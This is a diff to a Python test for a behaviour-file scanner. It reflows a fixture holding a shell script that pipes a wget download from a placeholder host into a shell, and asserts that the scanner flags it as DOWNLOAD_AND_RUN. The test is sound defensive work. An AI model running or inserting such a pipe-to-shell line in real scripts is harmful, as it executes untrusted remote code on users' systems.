@@ -17,11 +17,7 @@ from behaviour_files import scan_errors
 def test_download_piped_into_the_login_shell_by_name(tmp_path: Path, runner: str) -> None:
     errors = scan_errors(
         tmp_path,
-        {
-            "scripts/refresh.sh": "#!/bin/sh\n"
-            "feed=https://lut-packs.invalid/refresh\n"
-            f"wget -qO- \"$feed\" | {runner}\n"
-        },
+        {"scripts/refresh.sh": f'#!/bin/sh\nfeed=https://lut-packs.invalid/refresh\nwget -qO- "$feed" | {runner}\n'},
     )
     assert ("DOWNLOAD_AND_RUN", "scripts/refresh.sh", 3) in errors
 
